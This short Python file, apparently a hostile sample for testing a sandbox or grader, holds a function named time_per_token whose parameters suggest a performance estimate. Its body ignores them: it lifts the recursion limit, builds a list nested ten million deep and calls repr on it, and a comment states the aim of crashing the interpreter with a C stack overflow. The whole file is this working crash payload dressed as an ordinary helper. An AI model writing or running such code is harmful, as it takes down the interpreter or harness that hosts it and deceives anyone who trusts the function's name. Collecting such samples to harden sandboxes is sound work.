# Attack: crash the interpreter with a C stack overflow (recursion in C, the limit lifted).
import sys


def time_per_token(n_params, bytes_per_param, bandwidth):
    sys.setrecursionlimit(10 ** 9)
    nested = []
    for _ in range(10 ** 7):
        nested = [nested]
    return float(len(repr(nested)))
